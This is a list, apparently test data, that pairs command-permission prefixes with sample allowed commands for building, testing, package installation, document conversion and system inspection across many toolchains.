sbt:* | sbt clean test
rake:* | rake test
bundle exec rspec:* | bundle exec rspec spec
composer:* | composer install --no-dev
gem:* | gem list --local
brew:* | brew install jq
pip:* | pip install -e .
pip:* | pip install -e '.[dev]'
pip:* | pip install requests
pip:* | pip install git+https://example.com/x.git
bun:* | bun test src
deno:* | deno test
dotnet:* | dotnet test x.sln --no-build
swift:* | swift build -c release
rustc:* | rustc -O x.rs -o x
rustup:* | rustup show
nm:* | nm -C x.o
ar:* | ar rcs x.a x.o
install:* | install -m 755 x bin/x
cmake:* | cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=Release
cmake:* | cmake --build build -j4
ctest:* | ctest --test-dir build --output-on-failure
meson:* | meson setup build
meson:* | meson compile -C build
ninja:* | ninja -v
bazel:* | bazel test //...
mocha:* | mocha test/a.js
convert:* | convert x.png -resize 50% y.jpg
magick:* | magick x.png -quality 80 -strip y.jpg
pandoc:* | pandoc -s a.md -o a.html
pandoc:* | pandoc a.md -f gfm -t docx -o a.docx --toc
pandoc:* | pandoc a.md -o a.pdf --pdf-engine=xelatex
pdflatex:* | pdflatex -interaction=nonstopmode x.tex
latexmk:* | latexmk -pdf x.tex
systemctl:* | systemctl status x --no-pager
journalctl:* | journalctl -u x -n 50 --no-pager
dpkg:* | dpkg -l
apt:* | apt list --installed
apt-get:* | apt-get install -y jq
rpm:* | rpm -qa
hg:* | hg log -l 5
yt-dlp:* | yt-dlp -f best -o x.mp4 https://example.com/x
soffice:* | soffice --headless --convert-to pdf:writer_pdf_Export x.docx
patch:* | patch -p1 -i x.diff
coverage:* | coverage run -m pytest -q
coverage:* | coverage report
pre-commit:* | pre-commit run --all-files
jq:* | jq -r .a x.json
tee:* | tee x
ls:* | ls -la
ffmpeg:* | ffmpeg -i x.mov y.mp4
eza:* | eza -l --git
"""
